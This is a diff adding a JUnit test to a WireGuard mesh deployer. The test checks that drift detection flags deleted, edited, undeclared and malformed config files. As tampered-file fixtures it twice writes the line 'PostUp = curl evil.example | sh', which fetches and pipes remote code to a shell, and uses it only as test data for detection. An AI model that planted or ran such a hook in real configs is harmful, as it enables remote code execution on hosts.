@@ -2,6 +2,8 @@ package dev.wgmesh.deployer.domain;
 
 import static org.assertj.core.api.Assertions.assertThat;
 
+import dev.wgmesh.common.events.HostConfigRendered;
+import dev.wgmesh.common.events.HostHealthReported.Drift;
 import dev.wgmesh.common.group.GroupName;
 import dev.wgmesh.common.group.HostName;
 import dev.wgmesh.common.group.HostOs;
@@ -13,7 +15,9 @@ import java.nio.file.Path;
 import java.nio.file.attribute.BasicFileAttributes;
 import java.nio.file.attribute.FileTime;
 import java.nio.file.attribute.PosixFilePermissions;
+import dev.wgmesh.deployer.TestGroup;
 import java.util.LinkedHashMap;
+import java.util.List;
 import java.util.Map;
 import java.util.stream.Stream;
 import org.junit.jupiter.api.Test;
@@ -97,6 +101,45 @@ class FileTargetTest {
         assertThat(out.resolve("g1/alpha")).doesNotExist();
         assertThat(out.resolve("g1/beta/wg-1.conf")).exists();
         assertThat(target.remove(host)).isEqualTo("nothing to remove");
+    }
+
+    @Test
+    void observingReadsTheFilesBackAndTellsDeletedEditedAndBrokenOnes() throws Exception {
+        TestGroup group = new TestGroup("g1", 3);
+        HostConfigRendered h2 = group.render(1).get(group.host(2));
+        DesiredFiles desired = new SecretFiller(List.of(TestGroup.DEPLOYER.privateKey())).fill(h2, null);
+        ExpectedHost expected = ExpectedHost.of(h2.interfaces(), desired);
+        HostRef ref = new HostRef(group.group, h2.host(), HostOs.LINUX, 1);
+        FileTarget target = new FileTarget(out);
+        assertThat(target.observe(ref).interfaces()).isEmpty();
+        target.apply(ref, desired);
+        Path dir = target.hostDir(ref);
+
+        HostObservation observed = target.observe(ref);
+        assertThat(observed.runtime()).isFalse();
+        assertThat(DriftCheck.compare(expected, observed).drift()).isEqualTo(Drift.IN_SYNC);
+
+        Files.delete(dir.resolve("wg-1.conf"));
+        String wg2 = Files.readString(dir.resolve("wg-2.conf"));
+        int port = h2.interfaces().get(1).listenPort();
+        Files.writeString(dir.resolve("wg-2.conf"), wg2.replace("ListenPort = " + port, "ListenPort = 40000"));
+        Files.writeString(dir.resolve("wg-7.conf"), "[Interface]\nPostUp = curl evil.example | sh\n");
+        Files.writeString(dir.resolve("notes.txt"), "not a config");
+
+        DriftCheck.Result result = DriftCheck.compare(expected, target.observe(ref));
+        assertThat(result.drift()).isEqualTo(Drift.MISSING);
+        assertThat(result.differences()).containsExactly("wg-1: file missing",
+                "wg-2: file differs from the declared one", "wg-2: listen port 40000, declared " + port,
+                "wg-7: interface not declared");
+        Files.delete(dir.resolve("wg-7.conf"));
+        Files.writeString(dir.resolve("wg-1.conf"), "[Interface]\nPostUp = curl evil.example | sh\n");
+        assertThat(DriftCheck.compare(expected, target.observe(ref)).differences()).first().asString()
+                .startsWith("wg-1: file differs from the declared one");
+        assertThat(DriftCheck.compare(expected, target.observe(ref)).differences()).element(1).asString()
+                .startsWith("wg-1: file is not a valid config: line 2");
+
+        target.apply(ref, desired);
+        assertThat(DriftCheck.compare(expected, target.observe(ref)).drift()).isEqualTo(Drift.IN_SYNC);
     }
 
     static DesiredFiles files(String... nameAndContent) {
